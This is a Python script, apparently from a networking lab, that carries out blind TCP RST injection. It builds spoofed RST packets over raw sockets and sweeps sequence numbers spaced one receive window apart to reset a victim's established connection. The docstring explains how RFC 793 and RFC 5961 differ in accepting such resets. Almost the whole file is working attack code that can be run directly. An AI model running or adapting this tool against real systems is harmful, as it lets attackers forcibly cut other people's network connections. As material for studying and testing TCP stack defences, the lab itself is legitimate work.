#!/usr/bin/env python3
"""Blind RST injection (lab 10): try to reset someone's TCP connection without seeing it.

    python3 rst_inject.py [--dst 10.0.0.2] --dport 7 [--sport PORT] [--window 524288]
    python3 rst_inject.py --dport 7 --seq N --count 1        # an on-path attacker's exact RST

An off-path attacker who knows (or guesses) the four-tuple but not the sequence numbers
sends RSTs with sequence numbers spaced one receive window apart: one of them lands in
the window. Before RFC 5961 any in-window RST reset the connection (RFC 793); now only an
RST with exactly RCV.NXT does, and an in-window one gets a "challenge ACK" instead.

The source is this host's address towards --dst, the source port --sport (default: the
first ESTABLISHED connection to --dst:--dport in /proc/net/tcp) -- we pretend to be the
peer of that connection.
"""

from __future__ import annotations

import argparse
import socket
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from rawtcp import local_address_towards, raw_socket, tcp_packet  # noqa: E402

RST, ACK = 0x04, 0x10


def find_sport(dst: str, dport: int) -> int | None:
    want = f"{socket.inet_aton(dst)[::-1].hex().upper()}:{dport:04X}"
    try:
        lines = Path("/proc/net/tcp").read_text().splitlines()[1:]
    except OSError:
        return None
    for line in lines:
        fields = line.split()
        if fields[2] == want and fields[3] == "01":  # ESTABLISHED
            return int(fields[1].split(":")[1], 16)
    return None


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--dst", default="10.0.0.2", help="the victim's address (the stack)")
    p.add_argument("--dport", type=int, required=True, help="the victim's port, e.g. 7")
    p.add_argument("--sport", type=int, help="the connection's port on this side")
    p.add_argument("--src", help="source address (default: this host's towards --dst)")
    p.add_argument("--window", type=int, default=1 << 19, help="spacing of the guesses")
    p.add_argument("--count", type=int, help="how many RSTs (default 2**32 / window)")
    p.add_argument("--seq", type=lambda x: int(x, 0), default=0, help="first sequence number")
    p.add_argument("--rate", type=float, default=5000,
                   help="packets per second (default 5000: faster, the kernel in front of the "
                        "stack drops some when the Python stack falls behind)")
    args = p.parse_args()

    src = args.src or local_address_towards(args.dst)
    sport = args.sport or find_sport(args.dst, args.dport)
    if sport is None:
        print(f"no ESTABLISHED connection to {args.dst}:{args.dport} here; open one first "
              f"(e.g. nc {args.dst} {args.dport}) or give --sport", file=sys.stderr)
        return 1
    count = args.count or (1 << 32) // args.window
    sock = raw_socket()
    print(f"sending {count} RSTs {src}:{sport} > {args.dst}:{args.dport}, seq {args.seq} + "
          f"k * {args.window}", flush=True)
    started = time.monotonic()
    for k in range(count):
        seq = args.seq + k * args.window
        sock.sendto(tcp_packet(src, args.dst, sport, args.dport, seq, 0, RST, 0, ident=k),
                    (args.dst, 0))
        if args.rate and k % 100 == 99:
            ahead = (k + 1) / args.rate - (time.monotonic() - started)
            if ahead > 0:
                time.sleep(ahead)
    print(f"done in {time.monotonic() - started:.2f} s; is the connection still alive?")
    return 0


if __name__ == "__main__":
    sys.exit(main())
